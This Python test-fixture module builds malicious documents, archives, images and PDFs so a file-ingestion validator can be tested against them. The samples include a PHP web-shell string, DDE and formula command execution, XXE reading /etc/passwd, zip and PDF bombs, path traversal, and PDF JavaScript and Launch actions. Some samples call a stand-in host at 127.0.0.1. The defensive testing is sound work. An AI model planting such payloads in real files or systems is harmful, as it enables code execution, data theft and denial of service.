"""Files that mean harm, each made here: its name and its bytes. Those in NEUTRALISED are kept, but not as they came."""

from __future__ import annotations

import functools
import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

import pikepdf
from PIL import Image, PngImagePlugin

from tests.compiler.read.made_docx import NAMESPACES
from tests.compiler.read.made_pdf import assembled, page_object, pdf, stream, typeset
from tests.workspace.evidence.ordinary import members, ofd, photo, saved, screenshot, word, workbook, zipped

MILLION = 1_000_000
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
SHEET = "xl/worksheets/sheet1.xml"
PHP = b"<?php system($_GET['c']); ?>"


def added(name: str, content: bytes, base: Callable[[], bytes] = word) -> Callable[[], bytes]:
    """A sound document with one part more, or another in its place."""
    return lambda: zipped(members(base()) | {name: content})


def typed(old: bytes, new: bytes, base: Callable[[], bytes] = word) -> Callable[[], bytes]:
    """A sound document that declares another type of its parts."""

    def make() -> bytes:
        parts = members(base())
        assert old in parts["[Content_Types].xml"]
        return zipped(parts | {"[Content_Types].xml": parts["[Content_Types].xml"].replace(old, new)})

    return make


def related(kind: str, target: str, base: Callable[[], bytes] = word) -> Callable[[], bytes]:
    """A sound document with a part that points elsewhere."""
    line = f'<Relationship Id="rId99" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    part = f'<Relationships xmlns="{RELATIONS}">{line}</Relationships>'
    return added("word/_rels/settings.xml.rels", part.encode(), base)


def body(inner: str, doctype: str = "") -> Callable[[], bytes]:
    xml = f"<?xml version='1.0'?>{doctype}<w:document {NAMESPACES}><w:body>{inner}</w:body></w:document>"
    return added("word/document.xml", xml.encode())


def field(*words: str) -> Callable[[], bytes]:
    return body("<w:p>" + "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words) + "</w:p>")


def laughs() -> bytes:
    entities = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    return body("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", f"<!DOCTYPE d [{entities}]>")()


def sheet(rows: str) -> Callable[[], bytes]:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return added(SHEET, f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>'.encode(), workbook)


@functools.cache
def bomb(name: str, megabytes: int, base: Callable[[], bytes]) -> bytes:
    out = io.BytesIO(base())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as part:
        for _ in range(megabytes):
            part.write(b" " * MILLION)
    return out.getvalue()


@functools.cache
def lying_bomb() -> bytes:
    """A part of 300 MB that says it is one of a megabyte, with the sum of that megabyte."""
    name = b"word/media/big.png"
    made = bytearray(bomb(name.decode(), 300, word))
    for at_sum, at_size in ((made.index(name) - 30 + 14, 8), (made.rindex(name) - 46 + 16, 8)):
        struct.pack_into("<L", made, at_sum, zlib.crc32(b" " * MILLION))
        struct.pack_into("<L", made, at_sum + at_size, MILLION)
    return bytes(made)


def symbolic_link() -> bytes:
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/link.png")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def doubled_part() -> bytes:
    """Two parts of one name: one reader takes the first, another the last."""
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("Word/Document.xml", members(word())["word/document.xml"])
    return out.getvalue()


def locked_part() -> bytes:
    made = bytearray(word())
    made[made.find(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def many_members() -> bytes:
    return zipped(members(word()) | {f"word/{n}.xml": b"<x/>" for n in range(5_000)})


def forty_levels() -> bytes:
    """A zip in a zip in a zip, forty deep."""
    made = b"x"
    for n in range(40):
        made = zipped({f"{n}.zip": made})
    return made


def pdf_with(root: bytes, *objects: bytes) -> Callable[[], bytes]:
    """A page and what its catalog says besides; the objects have the numbers from 5 on."""
    pages = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % root
    return lambda: assembled([catalog, pages, page_object(4, 4), stream(b"q Q"), *objects])


def packed_script() -> bytes:
    """A script in a packed stream of objects, which no search in the file's bytes finds."""
    with pikepdf.open(io.BytesIO(pdf([typeset("一、队伍")]))) as made:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        made.Root.OpenAction = made.make_indirect(action)
        data = saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"JavaScript" not in data
    return data


def attached_file() -> bytes:
    with pikepdf.open(io.BytesIO(pdf([typeset("一、队伍")]))) as made:
        made.attachments["a.exe"] = pikepdf.AttachedFileSpec(made, b"MZ")
        return saved(made)


def locked_pdf(password: str) -> bytes:
    with pikepdf.open(io.BytesIO(pdf([typeset("一、队伍")]))) as made:
        return saved(made, encryption=pikepdf.Encryption(owner="owner", user=password))


@functools.cache
def pdf_bomb(times: int, letters: bool = False, entries: bytes = b"") -> bytes:
    """A page's content that unpacks to 300 MB; packed twice it is a few kilobytes; it may be written in letters besides."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b" " * MILLION) for _ in range(300)) + packer.flush()
    for _ in range(times - 1):
        content = zlib.compress(content, 9)
    filters = [b"/ASCIIHexDecode"] * letters + [b"/FlateDecode"] * times
    content = content.hex().encode() + b">" if letters else content
    entries += b"/Filter [%s] " % b" ".join(filters)
    pages = b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
    return assembled([b"<< /Type /Catalog /Pages 2 0 R >>", pages, page_object(4, 4), stream(content, entries)])


@functools.cache
def png_of(width: int, height: int) -> bytes:
    """One black pixel after another, packed a thousand to one."""
    packer = zlib.compressobj(9)
    row = bytes(1 + width // 8)
    rows = b"".join(packer.compress(row) for _ in range(min(height, 20_000))) + packer.flush()

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg_saying(width: int, height: int) -> bytes:
    """A small photograph whose head says that it is large."""
    made = bytearray(photo(64, 64))
    at = made.find(b"\xff\xc0")
    struct.pack_into(">HH", made, at + 5, height, width)
    return bytes(made)


def text_bomb() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("Comment", "x" * 200 * MILLION, zip=True)
    out = io.BytesIO()
    Image.new("RGB", (9, 9)).save(out, "PNG", pnginfo=told)
    return out.getvalue()


def marked_png() -> bytes:
    told = PngImagePlugin.PngInfo()
    told.add_text("GPS-MARKED", "27.7N 106.9E")
    exif = Image.Exif()
    exif[0x010F] = "GPS-MARKED-PHONE"
    out = io.BytesIO()
    Image.new("RGB", (40, 20)).save(out, "PNG", pnginfo=told, exif=exif, icc_profile=b"GPS-MARKED" * 20)
    return out.getvalue()


NEUTRALISED: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "a photograph with its place": ("现场.jpg", lambda: photo(800, 600)),
    "a picture with its place in texts": ("截图.png", marked_png),
    "a photograph with a program behind it": ("现场.jpg", lambda: photo(64, 64) + PHP + b"GPS-MARKED"),
    "a photograph with an archive behind it": ("现场.jpg", lambda: photo(64, 64) + zipped({"GPS-MARKED": PHP})),
    "a picture with a web page in it": ("截图.png.html", lambda: marked_png() + b"<script>GPS-MARKED</script>"),
}

REFUSED: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "nothing at all": ("空.pdf", lambda: b""),
    "31 megabytes": ("大.pdf", lambda: b"%PDF-1.7\n" + bytes(31 * MILLION)),
    "a part of 300 MB": ("a.docx", lambda: bomb("word/media/big.png", 300, word)),
    "a sheet of two hundred megabytes": ("a.xlsx", lambda: bomb("xl/worksheets/sheet9.xml", 200, workbook)),
    "a part of 300 MB that says one megabyte": ("a.docx", lying_bomb),
    "five thousand parts": ("a.docx", many_members),
    "archives forty deep": ("a.zip", forty_levels),
    "an archive called docx": ("a.docx", lambda: zipped({"a.txt": b"x"})),
    "a document in a document": ("a.docx", lambda: zipped(members(word()) | {"word/embeddings/a.docx": word()})),
    "workbooks two deep": (
        "a.docx", lambda: zipped(members(word()) | {"word/embeddings/a.xlsx": added("xl/embeddings/b.xlsx", b"x", workbook)()})),
    "a docm called docx": ("a.docx", added("word/vbaProject.bin", OLE)),
    "a docm with its macros under another name": (
        "a.docx",
        typed(b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"),
    ),
    "an old macro sheet": ("a.xlsx", added("xl/macrosheets/sheet1.xml", b"<x/>", workbook)),
    "an ole object": ("a.docx", added("word/embeddings/oleObject1.bin", OLE)),
    "an activex control": ("a.docx", added("word/activeX/activeX1.bin", b"x")),
    "a program as a picture's neighbour": ("a.docx", added("word/media/a.exe", b"MZ")),
    "a web page put in": ("a.docx", added("word/afchunk.html", b"<html/>")),
    "a part above the archive": ("a.docx", added("word/../../../x.xml", b"<x/>")),
    "a part at an absolute path": ("a.docx", added("/etc/cron.d/x.xml", b"<x/>")),
    "a part on a drive": ("a.docx", added("C:\\windows\\x.xml", b"<x/>")),
    "a link to the password file": ("a.docx", symbolic_link),
    "two parts of one name": ("a.docx", doubled_part),
    "a part with a password": ("a.docx", locked_part),
    "a template from elsewhere": ("a.docx", related("attachedTemplate", "http://127.0.0.1/x.dotm")),
    "a picture from elsewhere": ("a.docx", related("image", "\\\\127.0.0.1\\share\\a.png")),
    "an object from elsewhere": ("a.docx", related("oleObject", "mhtml:http://127.0.0.1/x!x-usc:x")),
    "a link that starts a program": ("a.docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic")),
    "a link to a share": ("a.docx", related("hyperlink", "file://127.0.0.1/share/a")),
    "a field that starts a program": ("a.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
    "a field in pieces that starts a program": ("a.docx", field("DD", "EAUTO ", "cmd")),
    "another workbook's cells": ("a.xlsx", related("externalLinkPath", "other.xlsx", workbook)),
    "a formula that calls the network": ("a.xlsx", sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://127.0.0.1/")</f></c></row>')),
    "a formula that starts a program": ("a.xlsx", sheet('<row r="1"><c r="A1"><f>cmd|\'/c calc\'!A0</f></c></row>')),
    "a million empty cells": ("a.xlsx", sheet("<row>" + "<c/>" * MILLION + "</row>")),
    "a cell in the last corner": ("a.xlsx", sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    "a billion laughs": ("a.docx", laughs),
    "an entity from the disk": (
        "a.docx", body("<w:p><w:r><w:t>&a;</w:t></w:r></w:p>", "<!DOCTYPE d [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")),
    "parts nested ten thousand deep": ("a.docx", body("<w:sdt>" * 10_000 + "</w:sdt>" * 10_000)),
    "a drawing with a script": ("a.docx", added("word/media/a.svg", b"<svg><script>x</script></svg>")),
    "a document cut off": ("a.docx", lambda: word()[:-40]),
    "a document behind a pdf's head": ("a.docx", lambda: b"%PDF-1.7\n" + word()),
    "a document before a program": ("a.docx", lambda: word() + PHP),
    "a program in a fixed-layout document": ("a.ofd", lambda: ofd(**{"Doc_0/Attachs/a.exe": b"MZ"})),
    "a fixed-layout document of laughs": ("a.ofd", lambda: ofd(**{"Doc_0/Annots.xml": b"<!DOCTYPE a><a/>"})),
    "an old word file": ("a.doc", lambda: OLE + "WordDocument".encode("utf-16-le")),
    "an old workbook called xlsx": ("a.xlsx", lambda: OLE + "Workbook".encode("utf-16-le")),
    "a script in a pdf": ("a.pdf", pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    "a script in a pdf in other letters": ("a.pdf", pdf_with(b"/OpenAction << /S /J#61va#53cript /J#53 (x) >>")),
    "a script in a pdf packed away": ("a.pdf", packed_script),
    "a script in a part of a pdf that nothing names": (
        "a.pdf", lambda: pdf([typeset("一")]).replace(b"xref\n", b"9 0 obj\n<< /S /JavaScript >>\nendobj\nxref\n", 1)),
    "a program started by a pdf": ("a.pdf", pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "a file in a pdf": ("a.pdf", attached_file),
    "a form in a pdf that sends": ("a.pdf", pdf_with(b"/OpenAction << /S /SubmitForm /F (http://127.0.0.1/) >>")),
    "a pdf with a password": ("a.pdf", lambda: locked_pdf("secret")),
    "a pdf that may not be changed": ("a.pdf", lambda: locked_pdf("")),
    "a pdf that unpacks to 300 MB": ("a.pdf", lambda: pdf_bomb(1)),
    "a pdf that unpacks to 300 MB from letters": ("a.pdf", lambda: pdf_bomb(1, letters=True)),
    "a pdf that unpacks to 300 MB where objects should be": ("a.pdf", lambda: pdf_bomb(1, entries=b"/Type /ObjStm ")),
    "a pdf packed twice": ("a.pdf", lambda: pdf_bomb(2)),
    "a pdf with a page of a kilometre": (
        "a.pdf", lambda: pdf([typeset("一")]).replace(b"[0 0 595 842]", b"[0 0 9999999 9]")),
    "a pdf with an image of ten billion pixels": (
        "a.pdf", pdf_with(b"", stream(b"x", b"/Type /XObject /Subtype /Image /Width 99999 /Height 99999 "))),
    "a pdf with a photograph that says it is large": (
        "a.pdf", pdf_with(b"", stream(jpeg_saying(60_000, 60_000), b"/Subtype /Image /Width 9 /Height 9 /Filter /DCTDecode "))),
    "a pdf whose pages form a ring": (
        "a.pdf", lambda: assembled([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [2 0 R] >>"])),
    "a pdf with an archive behind it": ("a.pdf", lambda: pdf([typeset("一")]) + zipped({"a.exe": b"MZ"})),
    "a pdf of noise": ("a.pdf", lambda: b"%PDF-1.7\n" + random.Random(7).randbytes(9_000) + b"%%EOF"),
    "an image of ten billion pixels": ("a.png", lambda: png_of(100_000, 100_000)),
    "an image of four hundred million pixels": ("a.png", lambda: png_of(20_000, 20_000)),
    "a photograph that says it is large": ("a.jpg", lambda: jpeg_saying(60_000, 60_000)),
    "a text of 200 MB in an image": ("a.png", text_bomb),
    "an image cut off": ("a.png", lambda: screenshot(size=(400, 400))[:-500]),
    "an image of noise": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + random.Random(7).randbytes(9_000)),
    "a web page called jpg": ("a.jpg", lambda: b"<html><script>1</script>"),
    "a drawing of the web": ("a.svg", lambda: b"<svg onload='alert(1)'/>"),
    "a program called pdf": ("a.pdf", lambda: b"MZ\x90\x00" + bytes(900)),
    "a script of the shell": ("a.jpg", lambda: b"#!/bin/sh\n"),
    "a telephone's film": ("a.mp4", lambda: b"\0\0\0\x18ftypmp42" + bytes(90)),
    "a moving picture": ("a.gif", lambda: b"GIF89a" + bytes(90)),
}  # fmt: skip
